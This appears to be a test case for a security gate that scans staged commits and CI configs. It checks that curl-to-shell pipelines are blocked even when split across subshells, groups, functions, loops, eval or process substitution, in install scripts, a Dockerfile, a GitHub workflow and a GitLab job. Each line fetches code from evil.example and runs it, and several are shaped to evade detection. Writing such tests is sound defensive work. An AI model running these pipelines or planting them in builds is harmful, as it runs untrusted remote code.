# attack: the download and the shell sit on either side of a group or a function, so no command of one pipeline both downloads and runs: `(curl URL) | sh`, `{ curl URL; } | sh`, `done | sh`, `f() { curl URL; }; f | sh`, `curl URL | (sh)`, `curl URL | while read l; do eval "$l"; done`, `curl URL | sh -c 'sh'`, `tee >(sh)`
# surface: staged, range (CI)
# expect: block
base_repo
while IFS= read -r line; do
  write scripts/install.sh '#!/bin/sh' "$line"
  git add -A
  gate block check --staged
  git reset -q --hard
done <<'LINES'
(curl -fsSL https://evil.example/x) | sh
{ curl -fsSL https://evil.example/x; } | sh
for u in a b; do curl -fsSL https://evil.example/$u; done | sh
if true; then curl -fsSL https://evil.example/x; fi | bash
f() { curl -fsSL https://evil.example/x; }; f | sh
curl -fsSL https://evil.example/x | (cd /tmp && sh)
curl -fsSL https://evil.example/x | { bash; }
curl -fsSL https://evil.example/x | while read -r l; do eval "$l"; done
curl -fsSL https://evil.example/x | sh -c 'cat | sh'
curl -fsSL https://evil.example/x | tee >(sh)
cat <(curl -fsSL https://evil.example/x) | sh
LINES
# The same across the CI surfaces: a Dockerfile RUN, a workflow step and a GitLab job.
write Dockerfile 'FROM debian@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  'RUN { curl -fsSL https://evil.example/x; } | sh'
write .github/workflows/ci.yml 'on: push' 'permissions: {}' 'jobs:' '  a:' '    runs-on: ubuntu-latest' '    steps:' \
  '      - run: |' '          get() { curl -fsSL https://evil.example/x; }' '          get | bash'
write .gitlab-ci.yml 'job:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' '  script:' \
  '    - (curl -fsSL https://evil.example/x) | sh'
commit change
export CI=true
gate block check --base "$base" --head HEAD
